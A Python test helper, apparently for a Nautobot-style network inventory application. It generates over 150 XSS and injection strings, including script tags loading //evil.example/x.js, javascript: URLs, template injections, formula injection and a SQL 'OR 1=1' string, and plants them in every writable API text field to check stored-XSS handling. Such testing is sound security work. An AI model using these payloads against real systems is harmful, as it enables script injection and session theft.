"""Texts that want to become a script, a style, a link or a layout of their own, and objects full of them."""

import itertools
import json

CALL = "window.__xss=1"
HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbegin",
    "onstart", "oncut", "onbeforeinput", "onscroll", "onwheel", "onblur"]
ELEMENTS = [
    "<img src=x {h}={c}>", "<svg {h}={c}>", "<body {h}={c}>", "<input autofocus {h}={c}>", "<details open {h}={c}>x</details>",
    "<video src=x {h}={c}></video>"]
CONTEXTS = ["", "\">", "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</option></select>", "</td></tr></table>"]
SCHEMES = [
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "java\nscript:{c}", "javascript&colon;{c}",
    "&#106;avascript:{c}", "\u0001javascript:{c}", "vbscript:{c}", "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={c}>",
    "feed:javascript:{c}", "view-source:javascript:{c}", "//evil.example/x.js", "https://evil.example\"onmouseover={c} x=\"",
    "https://evil.example/'onclick='{c}", "http://a@b\" style=\"position:fixed", "mailto:a@b.c?body=\"><script>{c}</script>",
    "blob:null/{c}", "file:///etc/passwd", "intent://x#Intent;end"]
OTHERS = [
    "<script>{c}</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>{c}</sCrIpT>", "<script\n>{c}</script\n>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<iframe src=javascript:{c}></iframe>", "<iframe srcdoc='<script>parent.{c}</script>'>",
    "<object data=javascript:{c}></object>", "<embed src=javascript:{c}>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{{background:url(//evil.example)}}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<form action=javascript:{c}><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>", "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "<a href=javascript:{c}>x</a>", "<svg><a xlink:href=javascript:{c}><text>x</text></a></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<template><script>{c}</script></template>",
    "<x onclick={c} tabindex=1 id=x>", "<isindex type=image src=1 onerror={c}>", "<marquee onstart={c}>x</marquee>",
    "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "#{{{c}}}", "{{% {c} %}}", "<%= {c} %>", "[[${{{c}}}]]",
    "';{c};//", "\";{c};//", "\\\";{c};//", "`;{c};//", "${{`{c}`}}", "*/{c}/*", "\u2028{c}//", "\u202e{c}", "\ufeff<script>{c}</script>",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "%3Cscript%3E{c}%3C/script%3E", "&lt;script&gt;{c}&lt;/script&gt;",
    "&#x3c;script&#x3e;{c}&#x3c;/script&#x3e;", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "<img src=`x`onerror={c}>",
    "<img/src=x/onerror={c}>", "<img src=x onerror\u000c={c}>", "<svg/onload={c}", "<img src=x:x onerror={c}//",
    "a" * 200, "\u0e49" * 40 + "zalgo", "x' OR '1'='1", "\u0000".replace("\u0000", "\u2400") + "<script>{c}</script>", "-1e309", "__proto__",
    "\u202e\u2066<b>rtl</b>\u2069", "=HYPERLINK(\"javascript:{c}\")", "<p style=position:fixed;inset:0>covers all</p>", "\U0001f469\u200d\U0001f4bb<i>"]


def vectors() -> list[str]:
    """More than 150 different texts."""
    all_of_them = [text.format(c=CALL) if "{c}" in text or "{{" in text else text for text in OTHERS + SCHEMES]
    turns = itertools.cycle(ELEMENTS)
    for number, (handler, context) in enumerate(itertools.product(HANDLERS, CONTEXTS)):
        if number % 2 == 0:
            all_of_them.append(context + next(turns).format(h=handler, c=CALL))
    return list(dict.fromkeys(all_of_them))


# Models that no object of the sample shows how to make.
SEEDS = {
    "/extras/tags/": {"name": "x", "content_types": ["dcim.device"]},
    "/extras/contacts/": {"name": "x"},
    "/extras/teams/": {"name": "x"},
    "/extras/custom-fields/": {"label": "x", "key": "x", "type": "text", "content_types": ["dcim.device"]},
    "/extras/computed-fields/": {"label": "x", "key": "x", "content_type": "dcim.device", "template": "{{ obj.name }}"},
    "/extras/custom-links/": {
        "name": "x", "content_type": "dcim.device", "text": "x", "target_url": "https://example.net/", "new_window": True},
    "/extras/export-templates/": {"name": "x", "content_type": "dcim.device", "template_code": "x"},
    "/extras/config-contexts/": {"name": "x", "data": {"x": "x"}},
    "/extras/dynamic-groups/": {"name": "x", "content_type": "dcim.device", "filter": {}},
    "/extras/saved-views/": {"name": "x", "view": "dcim:device_list", "config": {}, "is_shared": True},
    "/extras/webhooks/": {
        "name": "x", "content_types": ["dcim.device"], "type_create": True, "payload_url": "https://example.net/",
        "http_method": "POST", "http_content_type": "application/json"},
    "/extras/notification-channels/": {
        "name": "x", "kind": "email", "sender": "a@example.net", "recipients": ["a@example.net"], "smtp_host": "mail.example.net"},
    "/extras/notification-rules/": {"name": "x", "event": "device_uncovered", "channels": [], "enabled": False},
    "/extras/external-integrations/": {"name": "x", "remote_url": "https://example.net/"},
    "/extras/secrets/": {"name": "x", "provider": "environment-variable", "parameters": {"variable": "ALMANAC_SECRET_X"}},
    "/extras/secrets-groups/": {"name": "x"},
    "/users/groups/": {"name": "x"},
    "/users/permissions/": {"name": "x", "object_types": ["dcim.device"], "actions": ["view"], "enabled": False},
    "/users/users/": {"username": "x", "is_active": False},
    "/tenancy/tenants/": {"name": "x"},
    "/plugins/nautobot-device-lifecycle-mgmt/provider/": {"name": "x"},
    "/plugins/nautobot-device-lifecycle-mgmt/cve/": {"name": "x", "published_date": "2026-01-01", "link": "https://example.net/"},
}
UNTOUCHED = {"id", "color", "timezone", "content_type", "provider", "view", "type", "http_method", "http_content_type"}


class Planter:
    """Makes objects of every model whose every text is hostile, as far as the API takes it."""

    def __init__(self, server):
        self.server = server
        self.texts = vectors()
        self.turn = 0
        self.placed: set[str] = set()
        self.objects: list[str] = []
        self.fields: set[str] = set()

    def next_text(self, limit: int | None, serial: int) -> str:
        """The next text that fits, made different from all others by its end."""
        for _ in range(len(self.texts)):
            text = self.texts[self.turn % len(self.texts)]
            self.turn += 1
            if limit is None or len(text) + 8 <= limit:
                self.placed.add(text)
                return f"{text} {serial}" if text[-1:].isalnum() else f"{text}{serial}"
        return f"<b>{serial}"[: limit or 20]

    def template(self, path: str) -> dict | None:
        found = self.server.get(path, limit=1, depth=0, exclude_m2m="false")["results"]
        if path in SEEDS:
            return SEEDS[path]
        return found[0] if found else None

    def plant(self, path: str, count: int) -> None:
        """Makes some objects of a model; what the API refuses for a field is left as it was."""
        options = self.server.api("OPTIONS", path)
        model = (options.json or {}).get("actions", {}).get("PUT", {}) if options.status == 200 else {}
        template = self.template(path)
        if not model or template is None:
            return
        writable = {name: about for name, about in model.items() if not about["read_only"] and "choices" not in about}
        texts = {name: about.get("max_length") for name, about in writable.items()
                 if about["type"] in ("string", "url", "email", "slug") and name not in UNTOUCHED}
        base = {name: self.plain(value) for name, value in template.items() if name in model and not model[name]["read_only"]}
        base = {name: value for name, value in base.items() if name not in ("id", "tags", "custom_fields", "relationships")}
        refused: set[str] = set()
        for serial in range(count):
            for _ in range(8):
                body = dict(base)
                for name, limit in texts.items():
                    if name not in refused:
                        body[name] = self.next_text(limit, self.turn)
                if serial == 0 and "comments" in texts and "comments" not in refused:
                    body["comments"] = "\n".join(self.texts)
                    self.placed.update(self.texts)
                answer = self.server.api("POST", path, body)
                if answer.status == 201:
                    self.objects.append(path + answer.json["id"] + "/" if isinstance(answer.json["id"], str)
                                        else f"{path}{answer.json['id']}/")
                    self.fields |= {f"{path}{name}" for name in texts if name not in refused}
                    break
                wrong = set(answer.json) if answer.status == 400 and isinstance(answer.json, dict) else set()
                if not (wrong & set(texts)) - refused:
                    # The object and not a text: it differs from its template in too little.
                    for name in wrong & set(base):
                        base.pop(name)
                    if not wrong & set(model):
                        return
                refused |= wrong & set(texts)

    @staticmethod
    def plain(value):
        """A value as one writes it: choices and references by their key."""
        if isinstance(value, dict):
            if "value" in value and "label" in value:
                return value["value"]
            return {"id": value["id"]} if "id" in value and "url" in value else value
        if isinstance(value, list):
            return [Planter.plain(item) for item in value]
        return value

    def plant_everywhere(self, count: int) -> None:
        for path in self.server.models():
            self.plant(path, count)
        self.plant_on_a_device()

    def plant_on_a_device(self) -> None:
        """Values that hang on an object: custom fields with their label, notes, tags, the data of its context."""
        server = self.server
        field = server.post("/extras/custom-fields/", {
            "label": "<img src=x onerror=window.__xss=1>", "key": "hostile", "type": "text", "content_types": ["dcim.device"]})
        device = server.first("/dcim/devices/")
        path = f"/dcim/devices/{device['id']}/"
        tags = [key for key in (tag["id"] for tag in server.get("/extras/tags/", limit=20)["results"])]
        answer = server.api("PATCH", path, {
            "custom_fields": {field["key"]: "\"><script>window.__xss=1</script>"}, "comments": "\n".join(self.texts),
            "local_config_context_data": {"</script><script>window.__xss=1</script>": self.texts[:50]}, "tags": tags})
        assert answer.status == 200, answer.text[:500]
        self.objects.insert(0, path)
        for start in range(0, len(self.texts), 40):
            server.post(path + "notes/", {"note": "\n\n".join(self.texts[start:start + 40])})
        assert json.dumps(server.get(path)).count("__xss") > 100
